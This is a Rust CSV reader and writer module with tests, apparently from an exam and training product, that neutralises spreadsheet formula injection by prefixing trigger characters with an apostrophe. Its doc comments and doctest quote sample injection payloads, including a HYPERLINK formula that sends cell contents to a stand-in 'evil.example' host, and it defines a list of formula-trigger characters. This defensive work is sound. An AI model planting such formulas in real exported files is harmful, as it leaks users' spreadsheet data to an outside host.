//! CSV as RFC 4180 writes it (quoted fields, `""` for a quote, CRLF), read and written by hand:
//! one reader for every CSV the module takes (question banks, KPI files) and one writer,
//! [`CsvWriter`], for every CSV the product writes, whose cells are formula-safe (see [`field`]).
//! Reading skips a byte-order mark, accepts LF and CR line ends too, reads a line break inside a
//! quoted field as LF and removes the apostrophe the writer put before a formula trigger.
//! Hand-written because a spreadsheet export needs nothing more and the `csv` crate would grow
//! the wasm.

use crate::error::{Error, ErrorCode};

/// One record of a CSV file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CsvRecord {
    /// 1-based line where the record starts (a quoted field may span lines).
    pub line: u32,
    /// The fields, unquoted.
    pub fields: Vec<String>,
}

impl CsvRecord {
    /// Whether every field is empty or white space (an empty line, or `,,,`).
    pub fn is_blank(&self) -> bool {
        self.fields.iter().all(|f| f.trim().is_empty())
    }
}

/// Splits CSV text into records, blank ones included (a spreadsheet counts them as rows).
/// Errors name the line (`line 7`).
pub fn read_records(text: &str) -> Result<Vec<CsvRecord>, Error> {
    let text = text.strip_prefix('\u{FEFF}').unwrap_or(text);
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut row_line: u32 = 1;
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut line: u32 = 1;
    // Whether the current field was quoted, and where its quote opened (for the error).
    let mut quoted_from: Option<u32> = None;
    let mut in_quotes = false;
    let mut after_quote = false;
    let mut row_started = false;
    while let Some(c) = chars.next() {
        if in_quotes {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                '"' => {
                    in_quotes = false;
                    after_quote = true;
                }
                '\r' | '\n' => {
                    // A line break inside a cell reads as LF, whatever the file's line ends.
                    if c == '\r' && chars.peek() == Some(&'\n') {
                        chars.next();
                    }
                    field.push('\n');
                    line += 1;
                }
                _ => field.push(c),
            }
            continue;
        }
        match c {
            ',' => {
                row.push(unguard(std::mem::take(&mut field)));
                after_quote = false;
                quoted_from = None;
                row_started = true;
            }
            '\r' | '\n' => {
                if c == '\r' && chars.peek() == Some(&'\n') {
                    chars.next();
                }
                row.push(unguard(std::mem::take(&mut field)));
                rows.push(CsvRecord {
                    line: row_line,
                    fields: std::mem::take(&mut row),
                });
                after_quote = false;
                quoted_from = None;
                row_started = false;
                line += 1;
                row_line = line;
            }
            '"' if field.is_empty() && !after_quote && quoted_from.is_none() => {
                in_quotes = true;
                quoted_from = Some(line);
                row_started = true;
            }
            _ if after_quote => {
                return Err(Error::new(
                    ErrorCode::InvalidSyntax,
                    format!("line {line}"),
                    format!("第 {line} 行：引号结束后应紧跟逗号或换行，却是 “{c}”"),
                    format!("line {line}: expected a comma or line end after a closing quote, found \"{c}\""),
                ));
            }
            _ => {
                field.push(c);
                row_started = true;
            }
        }
    }
    if in_quotes {
        let from = quoted_from.unwrap_or(line);
        return Err(Error::new(
            ErrorCode::InvalidSyntax,
            format!("line {from}"),
            format!("第 {from} 行开始的引号没有结束"),
            format!("the quote opened on line {from} is never closed"),
        ));
    }
    if row_started || !field.is_empty() || !row.is_empty() {
        row.push(unguard(field));
        rows.push(CsvRecord {
            line: row_line,
            fields: row,
        });
    }
    Ok(rows)
}

/// Splits CSV text into rows of fields, blank rows included.
pub fn read_csv(text: &str) -> Result<Vec<Vec<String>>, Error> {
    Ok(read_records(text)?.into_iter().map(|r| r.fields).collect())
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection"):
/// `=`, `+`, `-`, `@`, and tab and CR, which some programs skip before looking for one.
pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// What gets the apostrophe: the triggers, and LF, because the reader turns a CR inside a quoted
/// cell into LF and must still recognise the apostrophe it put before that CR.
const GUARDED: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];

/// The one CSV writer: every CSV the product writes (results, the trainer's list, item analysis,
/// plans, schedules, bank exports and templates) is built with it, so every cell follows the
/// same two rules, in [`field`]. The text is UTF-8 with a byte-order mark (so Excel reads Chinese
/// correctly) and CRLF line ends, as RFC 4180 writes it.
///
/// ```
/// use kaohe::csv::CsvWriter;
/// let mut csv = CsvWriter::new();
/// csv.row(["姓名", "得分"]);
/// csv.row(["=HYPERLINK(\"http://evil.example\")", "-3.5"]);
/// assert_eq!(
///     csv.finish(),
///     "\u{feff}姓名,得分\r\n\"'=HYPERLINK(\"\"http://evil.example\"\")\",-3.5\r\n"
/// );
/// ```
#[derive(Debug, Clone)]
pub struct CsvWriter {
    out: String,
}

impl Default for CsvWriter {
    fn default() -> Self {
        Self::new()
    }
}

impl CsvWriter {
    /// An empty file: just the byte-order mark.
    pub fn new() -> Self {
        Self {
            out: String::from("\u{FEFF}"),
        }
    }

    /// Appends one record; each cell goes through [`field`].
    pub fn row<I, S>(&mut self, cells: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let mut first = true;
        for cell in cells {
            self.cell(first, cell.as_ref());
            first = false;
        }
        self.end_row();
    }

    /// One cell of the current record (out of line, so each caller's `row` stays a small loop).
    #[inline(never)]
    fn cell(&mut self, first: bool, cell: &str) {
        if !first {
            self.out.push(',');
        }
        push_field(&mut self.out, cell);
    }

    fn end_row(&mut self) {
        self.out.push_str("\r\n");
    }

    /// The file's text.
    pub fn finish(self) -> String {
        self.out
    }
}

/// Writes rows as CSV for Excel with [`CsvWriter`]: BOM, CRLF, every cell formula-safe.
pub fn write_csv<R: AsRef<[S]>, S: AsRef<str>>(rows: &[R]) -> String {
    let mut csv = CsvWriter::new();
    for row in rows {
        csv.row(row.as_ref());
    }
    csv.finish()
}

/// CSV from rows given as JSON (what a page passes: `{ rows: [["张伟", 92.5, null], …] }`), so
/// CSV the page builds from its own data goes through the same writer. A cell is a string, a
/// number (written as JSON writes it, `-3.5`) or null (empty); anything else is a `WRONG_TYPE`
/// error at `rows[i]` or `rows[i][j]` under `root`.
///
/// ```
/// let rows = serde_json::json!([["姓名", "得分"], ["=1+1", -3.5], [null, 12]]);
/// let csv = kaohe::csv::write_json_rows(&rows, "rows").unwrap();
/// assert_eq!(csv, "\u{feff}姓名,得分\r\n'=1+1,-3.5\r\n,12\r\n");
/// ```
pub fn write_json_rows(rows: &serde_json::Value, root: &str) -> Result<String, Error> {
    use serde_json::Value;
    let Value::Array(rows) = rows else {
        return Err(not_rows(root.to_string()));
    };
    let mut csv = CsvWriter::new();
    for (i, row) in rows.iter().enumerate() {
        let Value::Array(cells) = row else {
            return Err(not_rows(format!("{root}[{i}]")));
        };
        for (j, cell) in cells.iter().enumerate() {
            let number;
            let text = match cell {
                Value::String(s) => s.as_str(),
                Value::Number(n) => {
                    number = n.to_string();
                    number.as_str()
                }
                Value::Null => "",
                _ => return Err(not_rows(format!("{root}[{i}][{j}]"))),
            };
            csv.cell(j == 0, text);
        }
        csv.end_row();
    }
    Ok(csv.finish())
}

/// The one error of [`write_json_rows`], wherever the shape is wrong.
#[inline(never)]
fn not_rows(path: String) -> Error {
    Error::new(
        ErrorCode::WrongType,
        path.clone(),
        format!("“{path}” 应为由行组成的数组，每行是文字、数字或空值组成的数组"),
        format!("\"{path}\" must be an array of rows, each an array of strings, numbers or nulls"),
    )
}

/// One cell as written: formula-safe, then quoted.
///
/// - **Formula safety.** A cell that starts with one of [`FORMULA_TRIGGERS`] gets a leading
///   apostrophe, so a spreadsheet shows the text instead of running it: a candidate named
///   `=HYPERLINK("http://evil.example/?q="&A1,"查看成绩")` appears as that text, not as a link
///   that sends the sheet's cells away. The one exception is a plain decimal number (`-3.5`,
///   `+2`, `-1.5e3`, `-25%`): it cannot call anything, and the numbers the product writes
///   (negative marking, score changes) must stay numbers that sum. Whoever typed it, such a cell
///   is left as is; anything else (`-1+1`, `-3,5`, `+86 138…`, `-inf`) is neutralised.
/// - **Quoting (RFC 4180).** A cell holding a comma, quote, CR or LF, or starting or ending with
///   a space (which some readers trim), is put in double quotes with `""` for a quote.
///
/// [`read_records`] undoes the apostrophe, so an exported bank imports back unchanged (a cell
/// that already starts with an apostrophe before a trigger gets a second one for that reason).
pub fn field(cell: &str) -> String {
    let mut out = String::with_capacity(cell.len() + 3);
    push_field(&mut out, cell);
    out
}

/// [`field`], appended to `out`.
fn push_field(out: &mut String, cell: &str) {
    // A cell already starting with apostrophes before a trigger gets one more, so reading it
    // back (which removes one) returns it unchanged.
    let guard = cell.trim_start_matches('\'').starts_with(GUARDED) && !is_plain_number(cell);
    // A guarded cell starts with the apostrophe, so only the unguarded one can start with a space.
    let quote = cell.contains([',', '"', '\r', '\n'])
        || (!guard && cell.starts_with(' '))
        || cell.ends_with(' ');
    if quote {
        out.push('"');
    }
    if guard {
        out.push('\'');
    }
    if quote {
        for c in cell.chars() {
            if c == '"' {
                out.push('"');
            }
            out.push(c);
        }
        out.push('"');
    } else {
        out.push_str(cell);
    }
}

/// Whether a cell is a plain decimal number a spreadsheet reads as a number: an optional sign,
/// digits with at most one decimal point, an optional exponent, an optional trailing `%`.
/// (`f64::from_str` would also take `inf` and `NaN`, which a spreadsheet reads as names.)
fn is_plain_number(cell: &str) -> bool {
    let b = cell.strip_suffix('%').unwrap_or(cell).as_bytes();
    let mut i = usize::from(matches!(b.first(), Some(b'+' | b'-')));
    let (mut digits, mut dot) = (0, false);
    while let Some(&c) = b.get(i) {
        match c {
            b'0'..=b'9' => digits += 1,
            b'.' if !dot => dot = true,
            _ => break,
        }
        i += 1;
    }
    if digits == 0 {
        return false;
    }
    if matches!(b.get(i), Some(b'e' | b'E')) {
        i += 1;
        if matches!(b.get(i), Some(b'+' | b'-')) {
            i += 1;
        }
        let start = i;
        while matches!(b.get(i), Some(b'0'..=b'9')) {
            i += 1;
        }
        if i == start {
            return false;
        }
    }
    i == b.len()
}

/// A cell as read back: the apostrophe [`field`] put before a formula trigger is removed (as a
/// spreadsheet does with a typed leading apostrophe), any other text is kept as is.
fn unguard(cell: String) -> String {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.trim_start_matches('\'').starts_with(GUARDED) => rest.to_string(),
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fields_are_quoted_and_neutralised() {
        assert_eq!(field("a,b"), "\"a,b\"");
        assert_eq!(field("说\"好\""), "\"说\"\"好\"\"\"");
        assert_eq!(field("line\nbreak"), "\"line\nbreak\"");
        assert_eq!(field(" padded"), "\" padded\"");
        assert_eq!(field("=SUM(A1)"), "'=SUM(A1)");
        assert_eq!(field("+SUM(A1)"), "'+SUM(A1)");
        assert_eq!(field("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(field("-1+1"), "'-1+1");
        assert_eq!(field("\t=1"), "'\t=1");
        assert_eq!(field("\r=1"), "\"'\r=1\"");
        assert_eq!(field("-1,2"), "\"'-1,2\"");
        assert_eq!(field("产品-01"), "产品-01");
        assert_eq!(field(""), "");
    }

    #[test]
    fn plain_numbers_stay_numbers() {
        for n in [
            "-25", "-3.5", "+2", "-.5", "-1.5e3", "-2E-4", "-25%", "0", "12",
        ] {
            assert_eq!(field(n), n, "{n}");
        }
        for text in [
            "-", "+", "-.", "-e5", "-1e", "-inf", "-NaN", "+86 138", "-1.2.3", "--1",
        ] {
            assert_eq!(field(text), format!("'{text}"), "{text}");
        }
    }

    #[test]
    fn the_guard_is_removed_on_reading() {
        let rows = vec![
            vec!["=1+1", "-3.5", "'kept", "@x", "\tt"],
            vec!["\n=lf", "-a,b", "'=already", "", "x"],
        ];
        let text = write_csv(&rows);
        let back = read_csv(&text).unwrap();
        assert_eq!(back[0], rows[0]);
        // "'=already" is written "''=already" and reads back with one apostrophe.
        assert_eq!(back[1], rows[1]);
    }

    #[test]
    fn json_rows_are_checked_cell_by_cell() {
        let rows = serde_json::json!([["a", 1], ["b", true]]);
        let e = write_json_rows(&rows, "params.rows").unwrap_err();
        assert_eq!(e.code(), ErrorCode::WrongType);
        assert_eq!(e.path(), "params.rows[1][1]");
        let e = write_json_rows(&serde_json::json!([["a"], "b"]), "rows").unwrap_err();
        assert_eq!(e.path(), "rows[1]");
        let e = write_json_rows(&serde_json::json!({"a": 1}), "rows").unwrap_err();
        assert_eq!(e.path(), "rows");
        let csv = write_json_rows(&serde_json::json!([["@x", -2, null]]), "rows").unwrap();
        assert_eq!(csv, "\u{feff}'@x,-2,\r\n");
    }

    #[test]
    fn quotes_crlf_and_bom() {
        let rows =
            read_csv("\u{FEFF}a,\"b,c\",\"say \"\"hi\"\"\"\r\n1,\"two\r\nlines\",\r\n").unwrap();
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[0], ["a", "b,c", "say \"hi\""]);
        assert_eq!(rows[1], ["1", "two\nlines", ""]);
    }

    #[test]
    fn last_line_without_newline_and_lone_cr() {
        let rows = read_csv("a,b\rc,d").unwrap();
        assert_eq!(rows, vec![vec!["a", "b"], vec!["c", "d"]]);
        assert_eq!(read_csv("").unwrap().len(), 0);
        assert_eq!(read_csv("\"\"").unwrap(), vec![vec![""]]);
    }

    #[test]
    fn malformed_quotes_name_the_line() {
        let e = read_csv("a,b\n\"open,c\n").unwrap_err();
        assert_eq!(e.code(), ErrorCode::InvalidSyntax);
        assert_eq!(e.path(), "line 2");
        let e = read_csv("a\n\"x\"y,b\n").unwrap_err();
        assert_eq!(e.path(), "line 2");
    }

    #[test]
    fn writes_what_it_reads() {
        let rows = vec![
            vec!["题干".to_string(), "a,b".to_string()],
            vec!["他说\"好\"".to_string(), "两\n行".to_string()],
        ];
        let text = write_csv(&rows);
        assert!(text.starts_with('\u{FEFF}'));
        assert!(text.contains("\r\n"));
        assert_eq!(read_csv(&text).unwrap(), rows);
    }

    #[test]
    fn quotes_escapes_crlf_and_bom() {
        let text = "\u{feff}a,b\r\n\"x,1\",\"he said \"\"hi\"\"\"\r\n\r\n\"multi\nline\",2\n";
        let records: Vec<CsvRecord> = read_records(text)
            .unwrap()
            .into_iter()
            .filter(|r| !r.is_blank())
            .collect();
        assert_eq!(records.len(), 3);
        assert_eq!(records[0].fields, ["a", "b"]);
        assert_eq!(records[1].fields, ["x,1", "he said \"hi\""]);
        assert_eq!(records[2].fields, ["multi\nline", "2"]);
        assert_eq!(records[2].line, 4);
    }

    #[test]
    fn unclosed_quote_names_the_line() {
        let e = read_records("a,b\n1,\"2\n").unwrap_err();
        assert_eq!(e.code(), ErrorCode::InvalidSyntax);
        assert_eq!(e.path(), "line 2");
        let e = read_records("a\n\"x\"y\n").unwrap_err();
        assert_eq!(e.path(), "line 2");
    }
}
